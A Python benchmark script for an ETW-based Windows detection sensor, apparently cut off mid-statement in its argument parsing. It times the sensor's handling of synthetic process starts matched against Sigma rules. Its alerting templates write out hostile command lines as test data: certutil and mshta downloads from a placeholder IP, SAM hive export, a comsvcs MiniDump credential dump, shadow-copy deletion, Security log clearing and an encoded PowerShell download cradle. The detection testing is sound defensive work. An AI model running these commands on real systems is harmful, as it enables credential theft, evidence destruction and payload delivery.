"""Live cost: what the running sensor costs a quiet server, per event and at rest.

The sensor runs as its own process, built from a configuration the way ``etw-sensor run`` builds
it (``validate`` -> ``build`` -> ``make_pipeline`` -> ``serve``), with the real ETW source
(``EtwSource``: session managers, the session ticker, the consumer hand-off queue, the ETW
worker with the payload decoder, device mapper, process table and system-logger join), the real
enrichment, the compiled matcher over every SigmaHQ process_creation rule (compiled into a rule
pack first), noise control, the SQLite spool, the forwarder and the jsonl output, the heartbeat
and the per-alert log line. Only the Windows layer is replaced: the "session" is a pipe, and
its consumer thread reads raw Kernel-Process and system-logger records in the capture format
(``sensor/sources/capture.py``) and hands them to the source's callback, as ProcessTrace would.

This process writes the records in bursts at the flush interval (20 ms), paced in real time,
at 0 (rest), 1, 10, 100, 1,000 and 10,000 process starts/s: each start is a system-logger
Process/Start record, a Kernel-Process ProcessStart and, one burst later, its ProcessStop.
First with no alerting starts, then with 5 % of the starts alerting. Every phase is measured
from /proc of the sensor process: CPU (the sum of its threads' ``schedstat`` run time, ns),
wake-ups (voluntary + involuntary context switches of its threads) and RSS.

The floor is measured in the same run: the same pipe, the same bursts, read by a process that
only decodes each capture line into a raw record and drops it. The sensor's own cost is the
difference (``net``); the ratio sensor/floor is printed too.

    python bench/live_cost.py                        # the whole table (about 4 minutes)
    python bench/live_cost.py --quick                # shorter phases, rates up to 1,000/s
    python bench/live_cost.py --rates 0,10 --json
    python bench/live_cost.py --flush-ms 500         # bursts every 500 ms (source.etw.flush_ms = 500)
    python bench/live_cost.py --rates 10 --sections parts.json   # thread CPU of each part of the worker
    python bench/live_cost.py --rates 10 --profile worker.prof    # cProfile of the ETW worker (and .forwarder)
    python bench/live_cost.py --spool-sync normal    # [spool] sync = "normal": no fsync per spool commit
    python bench/live_cost.py --rates 10,100 --commit-delay 1   # [sensor] commit_delay_s = 1
    python bench/live_cost.py --rates 10 --alert-frac 0 --threads   # per thread: CPU and switches per start

``--threads`` prints, for each phase, every sensor thread's CPU and its voluntary and involuntary
context switches per start (the names come from the sensor on SIGUSR1, after the phase's sample).
``--alert-frac 0`` leaves out the alerting phases.

``--sections`` times (thread CPU, per call) the record decoders, each kind of record through the
processor, the pipeline's batch, the matcher, the alert build, the log line, the spool commit and
the forwarder's fetch, send and acknowledgement, inside the sensor process; the timing wrappers
add their own cost. ``--profile`` runs the ETW worker thread under cProfile, and the forwarder's
threads under another (written to FILE.forwarder).

The flush interval is how often ETW hands a quiet session's buffers to the consumer: the records
of a start arrive with those of every other start of the same interval, and the sensor wakes once
for all of them. ``--flush-ms`` sets both the bursts and the sensor's ``source.etw.flush_ms``.

What it does not measure: psutil back-fill and the PE reader on real Windows images (back-fill
is off: the bench processes do not exist on this machine; PE lookups of the recorded paths
miss), and ETW itself (the kernel's cost of producing the records, ProcessTrace's callback).
"""
from __future__ import annotations

import argparse
import glob
import json
import os
import signal
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
SHARED = ROOT.parent / "shared"
DEFAULT_RULES = SHARED / "data/sigma-rules/rules/windows/process_creation"

BURST_S = 0.020                     # the default flush interval: records arrive in bursts of it
FT_UNIX_EPOCH = 116_444_736_000_000_000
VOLUME = "\\Device\\HarddiskVolume3"
SYSTEM_SID = bytes([1, 1, 0, 0, 0, 0, 0, 5]) + struct.pack("<I", 18)          # S-1-5-18
HIGH_LABEL = bytes([1, 1, 0, 0, 0, 0, 0, 16]) + struct.pack("<I", 0x3000)    # High mandatory level

# What a quiet server starts: services, scheduled tasks, agents. Each must match no rule (checked
# against the loaded rules before the run; one that matches is left out and reported).
BENIGN = [
    ("\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s {n}"),
    ("\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    ("\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}"),
    ("\\Windows\\System32\\dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}}"),
    ("\\Windows\\System32\\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\""),
    ("\\Program Files\\Backup\\agent.exe", "\"C:\\Program Files\\Backup\\agent.exe\" --job {n} --target D:\\data\\set{n} --incremental"),
    ("\\Program Files\\nodejs\\node.exe", "\"C:\\Program Files\\nodejs\\node.exe\" D:\\apps\\api\\server.js --port {port}"),
    ("\\Windows\\System32\\sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe"),
    ("\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlceip.exe", "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlceip.exe\" -Service"),
    ("\\Windows\\System32\\MusNotification.exe", "C:\\Windows\\system32\\MusNotification.exe"),
    ("\\Program Files\\Monitoring\\collector.exe", "\"C:\\Program Files\\Monitoring\\collector.exe\" --interval 60 --batch {n}"),
    ("\\Windows\\System32\\WerFault.exe", "C:\\Windows\\system32\\WerFault.exe -u -p {n} -s 1244"),
    ("\\Windows\\System32\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider"),
    ("\\Program Files\\IIS\\w3wp.exe", "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"AppPool{n}\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm{n} -h \"C:\\inetpub\\temp\\apppools\\AppPool{n}\\AppPool{n}.config\" -w \"\" -m 0"),
]

# Starts that Sigma rules flag (each checked to raise at least one alert; the count is reported).
ALERTING = [
    ("\\Windows\\System32\\wbem\\mofcomp.exe", "mofcomp.exe C:\\Users\\Public\\x{n}.mof"),
    ("\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.{b}/a.exe C:\\Users\\Public\\a{n}.exe"),
    ("\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    ("\\Windows\\System32\\mshta.exe", "mshta.exe http://203.0.113.{b}/x{n}.hta"),
    ("\\Windows\\System32\\reg.exe", "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam{n}.save"),
    ("\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security"),
    ("\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Users\\Public\\l.dmp full"),
    ("\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{n}"),
]

PARENTS = [(700, "\\Windows\\System32\\services.exe"), (1204, "\\Windows\\System32\\svchost.exe"),
           (1800, "\\Windows\\System32\\svchost.exe")]


# -- records ------------------------------------------------------------------------------------

def filetime(t: float) -> int:
    return int(t * 10_000_000) + FT_UNIX_EPOCH


def payload(schema, values: dict, pointer_size: int = 8) -> bytes:
    """The wire bytes of ``schema`` with ``values`` (absent fields: 0 / empty)."""
    from sensor.sources import etw_manifest as m
    out = bytearray()
    for name, typ in schema.fields:
        v = values.get(name)
        if typ in (m.U32, m.I32):
            out += struct.pack("<I", (v or 0) & 0xFFFFFFFF)
        elif typ in (m.U64, m.FILETIME):
            out += struct.pack("<Q", v or 0)
        elif typ == m.U16:
            out += struct.pack("<H", v or 0x8664)
        elif typ == m.PTR:
            out += (v or 0).to_bytes(pointer_size, "little")
        elif typ == m.SID:
            out += v or HIGH_LABEL
        elif typ == m.TOKEN_SID:
            # TOKEN_USER: the SID's address (never 0: 0 is the "no SID" form), Attributes, the SID
            out += (0xFFFF_B000_0000_1000).to_bytes(pointer_size, "little")[:pointer_size] + \
                bytes(pointer_size) + (v or SYSTEM_SID)
        elif typ == m.UTF16Z:
            out += (v or "").encode("utf-16-le") + b"\0\0"
        elif typ == m.ANSIZ:
            out += (v or "").encode("ascii", "replace") + b"\0"
    return bytes(out)


class Records:
    """Capture lines (bytes) of process starts and stops with fresh pids."""

    def __init__(self) -> None:
        from sensor.sources import capture, etw_manifest as m
        from sensor.sources.etw_raw import SRC_KERNEL_PROCESS, SRC_SYSTEM_LOGGER
        import msgspec
        self._enc = msgspec.json.Encoder().encode
        self._capture = capture
        self.m = m
        self.KP, self.SL = SRC_KERNEL_PROCESS, SRC_SYSTEM_LOGGER
        self.kp_start = m.KERNEL_PROCESS[(1, 3)]
        self.kp_stop = m.KERNEL_PROCESS[(2, 2)]
        self.kp_rundown = m.KERNEL_PROCESS[(15, 3)]
        self.sl_start = m.SYSTEM_PROCESS[(1, 4)]
        self.next_pid = 10_000
        self.seq = 1_000

    def _line(self, raw: tuple) -> bytes:
        return self._enc(self._capture.encode_record(raw)) + b"\n"

    def header(self) -> bytes:
        return self._enc(self._capture.make_header("BENCH-HOST", {VOLUME: "C:"}, system_logger=True)) + b"\n"

    def rundown(self, t: float) -> bytes:
        """ProcessRundown records of the parents (what the session's capture-state sends)."""
        out = b""
        for pid, image in PARENTS:
            pl = payload(self.kp_rundown, {"ProcessID": pid, "CreateTime": filetime(t - 3600), "ParentProcessID": 4,
                                           "ImageName": VOLUME + image})
            out += self._line((self.KP, 15, 3, 0, 4, 8, filetime(t), 0x240, pl))
        return out

    def start(self, image: str, cmd: str, t: float, i: int) -> tuple[bytes, tuple]:
        """The system-logger Start and Kernel-Process ProcessStart lines, and what the stop needs."""
        pid = self.next_pid
        self.next_pid = 10_000 + (self.next_pid - 10_000 + 4) % 4_000_000
        self.seq += 1
        ppid = PARENTS[i % len(PARENTS)][0]
        ft = filetime(t)
        sl = payload(self.sl_start, {"UniqueProcessKey": 0xFFFF_A000_0000_0000 + pid, "ProcessId": pid,
                                     "ParentId": ppid, "SessionId": 0, "UserSID": SYSTEM_SID,
                                     "ImageFileName": image.rsplit("\\", 1)[-1][:15], "CommandLine": cmd})
        kp = payload(self.kp_start, {"ProcessID": pid, "ProcessSequenceNumber": self.seq, "CreateTime": ft,
                                     "ParentProcessID": ppid, "SessionID": 0, "ProcessTokenElevationType": 1,
                                     "ProcessTokenIsElevated": 1, "ImageName": VOLUME + image})
        lines = self._line((self.SL, 0, 4, 1, 4, 8, ft, 0x240, sl)) + \
            self._line((self.KP, 1, 3, 0, 4, 8, ft, 0x240, kp))
        return lines, (pid, self.seq, ft, image)

    def stop(self, info: tuple, t: float) -> bytes:
        pid, seq, ft, image = info
        pl = payload(self.kp_stop, {"ProcessID": pid, "ProcessSequenceNumber": seq, "CreateTime": ft,
                                    "ExitTime": filetime(t), "ImageName": image.rsplit("\\", 1)[-1][:15]})
        return self._line((self.KP, 2, 2, 0, 4, 8, filetime(t), 0x240, pl))


def fill(template: tuple[str, str], i: int) -> tuple[str, str]:
    image, cmd = template
    return image, cmd.format(n=1000 + i % 5000, port=8000 + i % 100, b=1 + i % 250)


def label(rules_path: str) -> tuple[list, list, dict]:
    """The benign and alerting templates, checked against the rules through the capture reader,
    the enricher and the matcher (the sensor's own path); alerts per alerting template."""
    from sensor.detect.loader import load_rules
    from sensor.detect.matcher import create
    from sensor.enrich.enricher import Enricher
    from sensor.sources.base import ReadStats
    from sensor.sources.capture import read_capture
    report = load_rules([rules_path], builtin=True)
    matcher = create(report.rules)
    rec = Records()
    t = time.time()
    templates = BENIGN + ALERTING
    by_pid: dict[int, tuple] = {}
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "label.capture")
        with open(path, "wb") as fh:
            fh.write(rec.header() + rec.rundown(t))
            for k in range(3):              # three variants of each template
                for j, tpl in enumerate(templates):
                    lines, info = rec.start(*fill(tpl, k * 37 + j), t, k * 37 + j)
                    by_pid[info[0]] = tpl
                    fh.write(lines)
        enrich = Enricher()
        hits: dict[tuple, int] = {}
        for ev in read_capture(path, ReadStats()):
            enrich(ev)
            tpl = by_pid[ev["ProcessId"]]
            n = len(matcher.match(ev))
            # benign: no variant may match; alerting: the fewest alerts of its variants
            hits[tpl] = hits.get(tpl, 0) + n if tpl in BENIGN else min(hits.get(tpl, n), n)
    benign = [tpl for tpl in BENIGN if hits.get(tpl) == 0]
    alerting = [tpl for tpl in ALERTING if hits.get(tpl, 0) > 0]
    return benign, alerting, {"rules": len(report.rules), "benign_left_out": len(BENIGN) - len(benign),
                              "alerting_left_out": len(ALERTING) - len(alerting),
                              "alerts_per_alerting_start": {tpl[0].rsplit("\\", 1)[-1]: hits[tpl] for tpl in alerting}}


# -- the sensor process (and the floor) ---------------------------------------------------------

def pump(fh, route) -> None:
    """The consumer thread: capture lines -> raw records -> ``route(raw)`` until end of input."""
    from sensor.sources.capture import CaptureError, decode_record
    import msgspec
    dec = msgspec.json.Decoder().decode
    readline = fh.readline
    while True:
        line = readline()
        if not line:
            return
        try:
            route(decode_record(dec(line)))
        except (msgspec.DecodeError, CaptureError):
            pass


class PipeBackend:
    """The ETW control calls over a pipe: one consumer thread reads the records of both sessions."""

    def __init__(self, fh, ready) -> None:
        self.fh = fh
        self.ready = ready
        self.sinks: dict[str, object] = {}
        self.thread: threading.Thread | None = None

    def stop_session(self, spec):
        return None

    def start_session(self, spec) -> None:
        pass

    def enable_provider(self, spec) -> None:
        pass

    def capture_state(self, spec) -> None:
        pass

    def flush(self, spec) -> None:
        pass

    def query(self, spec) -> dict:
        return {"EventsLost": 0, "RealTimeBuffersLost": 0}

    def open_consumer(self, spec, sink):
        from sensor.sources.etw_raw import SRC_SYSTEM_LOGGER
        self.sinks[spec.kind] = sink
        if self.thread is None:
            sinks = self.sinks

            def route(raw):
                sinks.get("system_logger" if raw[0] == SRC_SYSTEM_LOGGER else "provider", sinks["provider"])(raw)
            self.thread = threading.Thread(target=pump, args=(self.fh, route), name="etw-consumer", daemon=True)
            self.thread.start()
            self.ready()
        return _Consumer(self.thread)


class _Consumer:
    def __init__(self, thread) -> None:
        self.thread = thread

    @property
    def alive(self) -> bool:
        return self.thread.is_alive()

    def close(self, timeout: float = 5.0) -> None:
        pass


def child_sensor(config: str) -> int:
    from sensor.commands import config_for
    from sensor.daemon.assemble import build, etw_config, make_pipeline, setup_logging, validate
    from sensor.daemon.runner import serve
    from sensor.sources.capture import check_header
    from sensor.sources.etw import EtwSource
    import msgspec
    fh = sys.stdin.buffer
    header = check_header(msgspec.json.decode(fh.readline()))
    cfg = config_for(config, quiet=True)
    checked = validate(cfg, platform="win32", elevated=lambda: True)
    if checked.errors:
        print(json.dumps({"errors": checked.errors}), flush=True)
        return 2
    setup_logging(cfg)
    parts = build(cfg, checked, with_source=False)
    ecfg = etw_config(cfg)
    ecfg.seed_from_psutil = False
    devices = dict(header["devices"])
    parts.source = EtwSource(ecfg, backend=PipeBackend(fh, lambda: print("ready", flush=True)),
                             helpers={"device_loader": lambda: devices})
    prof = _profile_worker(os.environ.get("LIVE_COST_PROFILE")) or _time_sections(os.environ.get("LIVE_COST_SECTIONS"))
    pipeline = make_pipeline(parts)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    names = os.environ.get("LIVE_COST_THREADS")
    if names:
        _write_thread_names(names, stop)
    code = serve(pipeline, stop, drain_timeout=cfg.sensor.drain_timeout_s)
    if prof is not None:
        prof()
    # The consumer thread is blocked reading the pipe: leave without finalising it.
    import logging
    logging.shutdown()
    sys.stdout.flush()
    os._exit(code)


def _write_thread_names(path: str, stop: threading.Event) -> None:
    """``--threads``: on SIGUSR1 (sent by the bench after it sampled a phase) write the sensor's
    thread names by native id to ``path`` (JSON); no thread of its own, no timer."""
    def write(*_) -> None:
        names = {str(t.native_id): t.name for t in threading.enumerate() if t.native_id}
        names[str(os.getpid())] = "main"
        tmp = path + ".tmp"
        with open(tmp, "w") as fh:
            json.dump(names, fh)
        os.replace(tmp, path)
    signal.signal(signal.SIGUSR1, write)


def _profile_worker(path: str | None):
    """``--profile``: run the ETW worker thread (decode, event, enrichment, matcher, alerts,
    spool) under cProfile, and the forwarder's threads (fetch, output, acknowledgement) too;
    returns the function that writes the statistics to ``path`` and ``path.forwarder``."""
    if not path:
        return None
    import cProfile
    from sensor.sources.etw import EtwSource
    from sensor.deliver.forwarder import Forwarder
    profs: dict[str, list] = {"": [], ".forwarder": []}

    def profiled(fn, suffix):
        def run(self, *a, **kw):
            prof = cProfile.Profile()       # one per thread: cProfile follows the thread it runs on
            profs[suffix].append(prof)
            prof.enable()
            try:
                return fn(self, *a, **kw)
            finally:
                prof.disable()
        return run
    EtwSource._work = profiled(EtwSource._work, "")
    Forwarder._loop = profiled(Forwarder._loop, ".forwarder")

    def dump():
        import pstats
        for suffix, got in profs.items():
            if got:
                st = pstats.Stats(got[0])
                for p in got[1:]:
                    st.add(p)
                st.dump_stats(path + suffix)
    return dump


def _time_sections(path: str | None):
    """``--sections``: thread CPU time (ns) of the worker's parts, per part, written to ``path``
    as JSON at the end: record decoding and the event (per record kind), the pipeline's batch
    (enrichment, matcher, alerts), the matcher alone, the alerts' commit."""
    if not path:
        return None
    from sensor.daemon.pipeline import Pipeline
    from sensor.sources.etw import EtwProcessor
    clock = time.thread_time_ns
    acc: dict[str, list[int]] = {}

    def wrap(cls, name, key=None):
        fn = getattr(cls, name)

        def timed(self, *a, **kw):
            k = key(a) if key else name
            t0 = clock()
            try:
                return fn(self, *a, **kw)
            finally:
                e = acc.setdefault(k, [0, 0])
                e[0] += clock() - t0
                e[1] += 1
        setattr(cls, name, timed)
    wrap(EtwProcessor, "handle", key=lambda a: f"handle src={a[0][0]} id={a[0][1]} op={a[0][3]}")
    wrap(Pipeline, "run_batch")
    wrap(Pipeline, "commit")
    from sensor.daemon import assemble
    from sensor.deliver.forwarder import Forwarder
    from sensor.deliver.jsonl import JsonlOutput
    from sensor.deliver.spool import Spool
    from sensor.detect.alerts import AlertFactory
    from sensor.sources.etw_decode import PayloadDecoder
    wrap(AlertFactory, "__call__", key=lambda a: "alert build")
    if hasattr(AlertFactory, "many"):      # the alerts of one event together (calls: events)
        wrap(AlertFactory, "many", key=lambda a: "alert build")
    wrap(PayloadDecoder, "kernel_process", key=lambda a: f"decode kernel-process id={a[0]}")
    wrap(PayloadDecoder, "system_process", key=lambda a: "decode system-logger")
    wrap(Spool, "put_many")
    wrap(Spool, "fetch", key=lambda a: "forwarder fetch")
    wrap(Spool, "ack", key=lambda a: "forwarder ack")
    wrap(JsonlOutput, "send_batch", key=lambda a: "forwarder send (ECS, write, fsync)")
    wrap(Forwarder, "step", key=lambda a: "forwarder step (all of it)")
    hook = assemble._log_alert

    def log_alert(alert):
        t0 = clock()
        try:
            return hook(alert)
        finally:
            e = acc.setdefault("alert log line", [0, 0])
            e[0] += clock() - t0
            e[1] += 1
    assemble._log_alert = log_alert
    make = Pipeline._process

    class Timed:
        def __init__(self, inner) -> None:
            self.inner = inner

        def __getattr__(self, name):
            return getattr(self.inner, name)

        def match(self, ev):
            t0 = clock()
            try:
                return self.inner.match(ev)
            finally:
                e = acc.setdefault("matcher", [0, 0])
                e[0] += clock() - t0
                e[1] += 1

    def process(self, batch):
        rs = self._active
        if not isinstance(rs.matcher, Timed):
            rs.matcher = Timed(rs.matcher)
        return make(self, batch)
    Pipeline._process = process

    def dump():
        with open(path, "w") as fh:
            json.dump({k: {"ns": v[0], "calls": v[1], "us_per_call": v[0] / v[1] / 1e3} for k, v in acc.items()},
                      fh, indent=1)
    return dump


def child_floor() -> int:
    from sensor.sources.capture import check_header
    import msgspec
    fh = sys.stdin.buffer
    check_header(msgspec.json.decode(fh.readline()))
    t = threading.Thread(target=pump, args=(fh, lambda raw: None), name="etw-consumer", daemon=True)
    t.start()
    print("ready", flush=True)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    stop.wait()
    os._exit(0)


# -- measuring ---------------------------------------------------------------------------------

def sample(pid: int) -> dict:
    """CPU ns, context switches and RSS of a process, summed over its threads."""
    cpu = ctx = 0
    tasks: dict[str, list[int]] = {}
    for task in glob.glob(f"/proc/{pid}/task/*"):
        try:
            with open(f"{task}/schedstat") as f:
                t_cpu = int(f.read().split()[0])
            t_ctx = [0, 0]
            with open(f"{task}/status") as f:
                for line in f:
                    if line.startswith("voluntary_ctxt_switches:"):
                        t_ctx[0] = int(line.split()[1])
                    elif line.startswith("nonvoluntary_ctxt_switches:"):
                        t_ctx[1] = int(line.split()[1])
        except (OSError, ValueError, IndexError):
            continue
        cpu += t_cpu
        ctx += t_ctx[0] + t_ctx[1]
        tasks[task.rsplit("/", 1)[1]] = [t_cpu, t_ctx[0], t_ctx[1]]
    rss = hwm = 0
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                rss = int(line.split()[1]) / 1024
            elif line.startswith("VmHWM:"):
                hwm = int(line.split()[1]) / 1024
    return {"cpu_ns": cpu, "ctx": ctx, "rss_mb": rss, "hwm_mb": hwm, "t": time.monotonic(), "tasks": tasks}


def by_thread(s0: dict, s1: dict, names: dict, starts: int) -> dict:
    """Per thread of the phase: CPU us, voluntary and involuntary switches, each per start
    (per second when there were no starts)."""
    per = starts or max(1e-9, s1["t"] - s0["t"])
    out: dict[str, list[float]] = {}
    for tid, (cpu, vol, inv) in s1["tasks"].items():
        c0, v0, i0 = s0["tasks"].get(tid, (0, 0, 0))
        if cpu == c0 and vol == v0 and inv == i0:
            continue
        row = out.setdefault(names.get(tid, f"tid {tid}"), [0.0, 0.0, 0.0])
        row[0] += (cpu - c0) / 1e3 / per
        row[1] += (vol - v0) / per
        row[2] += (inv - i0) / per
    return out


def spool_depth(path: str | None) -> int:
    """Rows waiting in the sensor's spool (0 when there is no spool to look at)."""
    if not path or not os.path.exists(path):
        return 0
    import sqlite3
    try:
        with sqlite3.connect(path, timeout=5.0) as db:
            return db.execute("SELECT COUNT(*) FROM alerts").fetchone()[0]
    except sqlite3.Error:
        return 1


def settle(pid: int, quiet_ns: int = 2_000_000, step: float = 0.25, cap: float = 60.0,
           spool: str | None = None) -> dict:
    """Wait until the process has worked off its backlog (less than ``quiet_ns`` CPU in a step)
    and, with ``spool``, delivered every alert it spooled (a forwarder that lingers sends the
    last batch of a phase after the phase: its CPU belongs to that phase)."""
    end = time.monotonic() + cap
    prev = sample(pid)
    while time.monotonic() < end:
        time.sleep(step)
        cur = sample(pid)
        if cur["cpu_ns"] - prev["cpu_ns"] < quiet_ns and not spool_depth(spool):
            return cur
        prev = cur
    return prev


class Child:
    def __init__(self, argv: list[str], header: bytes, log: str) -> None:
        self.log = open(log, "wb")
        self.proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=self.log,
                                     cwd=ROOT, bufsize=0)
        self.proc.stdin.write(header)
        line = self.proc.stdout.readline()
        if line.strip() != b"ready":
            self.proc.kill()
            raise RuntimeError(f"{argv[-1]} did not start: {line!r} (see {log})")

    def write(self, data: bytes) -> None:
        self.proc.stdin.write(data)

    def stop(self) -> int:
        self.proc.send_signal(signal.SIGTERM)
        try:
            code = self.proc.wait(120)
        finally:
            self.proc.stdin.close()
            self.log.close()
        return code


def feed(child: Child, rec: Records, rate: float, duration: float, benign: list, alerting: list,
         alert_frac: float) -> tuple[int, int]:
    """Send ``rate`` starts/s for ``duration`` s in bursts of BURST_S; returns (starts, alerting)."""
    n = int(round(rate * duration))
    bursts: dict[int, list[int]] = {}
    for i in range(n):
        bursts.setdefault(int(i / rate / BURST_S), []).append(i)
    t_base = time.time()
    plan = []
    n_alert = 0
    pending_stops: list[tuple] = []
    for k in sorted(bursts):
        t = t_base + k * BURST_S
        data = [rec.stop(info, t) for info in pending_stops]
        pending_stops = []
        for i in bursts[k]:
            hot = alert_frac > 0 and int((i + 1) * alert_frac) > int(i * alert_frac)
            pool = alerting if hot else benign
            n_alert += hot
            lines, info = rec.start(*fill(pool[i % len(pool)], i), t, i)
            data.append(lines)
            pending_stops.append(info)
        plan.append((k * BURST_S, b"".join(data)))
    if pending_stops:
        plan.append((duration, b"".join(rec.stop(info, t_base + duration) for info in pending_stops)))
    t0 = time.monotonic()
    for at, data in plan:
        delay = t0 + at - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        child.write(data)
    rest = t0 + duration - time.monotonic()
    if rest > 0:
        time.sleep(rest)
    return n, n_alert


def thread_names(child: "Child", path: str) -> dict:
    """The sensor's thread names by native id (asked for with SIGUSR1, after the sample)."""
    try:
        os.unlink(path)
    except OSError:
        pass
    child.proc.send_signal(signal.SIGUSR1)
    end = time.monotonic() + 5.0
    while time.monotonic() < end:
        try:
            with open(path) as fh:
                return json.load(fh)
        except (OSError, ValueError):
            time.sleep(0.05)
    return {}


def run_phases(child: Child, rec: Records, phases: list, benign: list, alerting: list,
               names_path: str | None = None, spool: str | None = None) -> list[dict]:
    out = []
    for name, rate, duration, frac in phases:
        s0 = settle(child.proc.pid, spool=spool)
        starts, hot = feed(child, rec, rate, duration, benign, alerting, frac) if rate else (0, 0)
        if not rate:
            time.sleep(duration)
        s1 = sample(child.proc.pid) if not rate else settle(child.proc.pid, spool=spool)
        cpu = s1["cpu_ns"] - s0["cpu_ns"]
        out.append({"phase": name, "rate": rate, "alert_frac": frac, "seconds": duration, "starts": starts,
                    "alerting_starts": hot, "cpu_ms": cpu / 1e6, "cpu_pct": 100 * cpu / 1e9 / duration,
                    "us_per_start": cpu / 1e3 / starts if starts else None,
                    "wakeups_per_s": (s1["ctx"] - s0["ctx"]) / (s1["t"] - s0["t"]),
                    "rss_mb": s1["rss_mb"], "hwm_mb": s1["hwm_mb"]})
        if names_path:
            out[-1]["threads"] = by_thread(s0, s1, thread_names(child, names_path), starts)
            unit = "start" if starts else "s"
            for thread, (us, vol, inv) in sorted(out[-1]["threads"].items(), key=lambda kv: -kv[1][0]):
                print(f"      {thread:<26} {us:9.1f} us/{unit}  {vol:6.2f} + {inv:5.2f} switches/{unit} "
                      f"(voluntary + involuntary)", file=sys.stderr, flush=True)
        print(f"  {name:<28} {out[-1]['cpu_pct']:8.3f} % cpu  "
              f"{(out[-1]['us_per_start'] or 0):9.1f} us/start  {out[-1]['wakeups_per_s']:8.1f} wake/s",
              file=sys.stderr, flush=True)
    return out


def write_config(tmp: str, rules: str, flush_ms: int = 20, spool_sync: str = "full",
                 batch_wait_ms: int | None = None, commit_delay_s: float | None = None) -> str:
    data = os.path.join(tmp, "data")
    path = os.path.join(tmp, "sensor.toml")
    with open(path, "w") as fh:
        fh.write(f"""[sensor]
data_dir = {json.dumps(data)}
hostname = "BENCH-HOST"
{f"commit_delay_s = {float(commit_delay_s)}" if commit_delay_s is not None else ""}
[logging]
level = "info"
[source]
kind = "etw"
[source.etw]
backfill = false
flush_ms = {int(flush_ms)}
[rules]
paths = [{json.dumps(rules)}]
on_error = "skip"
[spool]
sync = "{spool_sync}"
[output]
format = "jsonl"
""")
        if batch_wait_ms is not None:
            fh.write(f"[delivery]\nbatch_wait_ms = {int(batch_wait_ms)}\n")
    os.chmod(path, 0o600)
    return path


def compile_pack(rules: str, tmp: str) -> str:
    if rules.endswith(".pack"):
        return rules
    pack = os.path.join(tmp, "sigma.pack")
    r = subprocess.run([sys.executable, "-m", "sensor", "rules", "compile", rules, "-o", pack, "--allow-rejected"],
                       cwd=ROOT, capture_output=True, text=True)
    if r.returncode != 0 or not os.path.exists(pack):
        raise SystemExit(f"rules compile failed: {r.stderr[-2000:]}")
    return pack


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--child", choices=["sensor", "floor"], help=argparse.SUPPRESS)
    ap.add_argument("--config", help=argparse.SUPPRESS)
    ap.add_argument("--rules", default=str(DEFAULT_RULES), help="Sigma folder or rule pack")
    ap.add_argument("--rates", default="0,1,10,100,1000,10000", help="starts/s, comma-separated (0 = rest)")
    ap.add_argument("--seconds", type=float, default=10.0, help="length of a phase below 1,000 starts/s")
    ap.add_argument("--fast-seconds", type=float, default=4.0, help="length of a phase at >= 1,000 starts/s")
    ap.add_argument("--rest-seconds", type=float, default=30.0, help="length of the rest phase")
    ap.add_argument("--alert-frac", type=float, default=0.05, help="share of alerting starts in the second pass (0: none)")
    ap.add_argument("--flush-ms", type=int, default=20,
                    help="burst interval = the sensor's source.etw.flush_ms (default 20)")
    ap.add_argument("--quick", action="store_true", help="rates up to 1,000/s, shorter phases")
    ap.add_argument("--json", action="store_true")
    ap.add_argument("--profile", help="write cProfile statistics of the sensor's ETW worker thread to this file "
                         "(the forwarder's threads: FILE.forwarder)")
    ap.add_argument("--sections", help="write the thread CPU time of the worker's parts (JSON) to this file")
    ap.add_argument("--threads", action="store_true",
                    help="print each sensor thread's CPU and context switches per start in each phase")
    ap.add_argument("--workdir", help="keep the sensor's data, config and logs in this folder")
    ap.add_argument("--spool-sync", choices=["full", "normal"], default="full",
                    help="the sensor's [spool] sync (default full: an fsync per commit)")
    ap.add_argument("--batch-wait-ms", type=int, default=None,
                    help="the sensor's [delivery] batch_wait_ms (default: the tree's own default)")
    ap.add_argument("--commit-delay", type=float, default=None,
